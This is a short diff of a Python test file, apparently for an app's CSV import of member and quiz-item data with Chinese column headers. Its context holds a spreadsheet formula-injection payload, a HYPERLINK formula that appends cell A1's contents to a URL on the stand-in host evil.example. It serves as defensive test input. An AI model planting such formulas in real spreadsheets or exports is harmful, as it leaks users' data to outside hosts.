@@ -19,6 +19,8 @@ from tests.app.accounts.test_import import CSV
 from tests.app.bad_input.conftest import ITEMS_FILE, World
 from tests.fixtures.app import Client
 
+pytestmark = pytest.mark.pages  # the same statements as elsewhere: files and words are what is tested
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 MEMBERS_HEAD, ITEMS_HEAD = "姓名,账号,手机号\n", "题型,题干,选项A,选项B,答案\n"
 
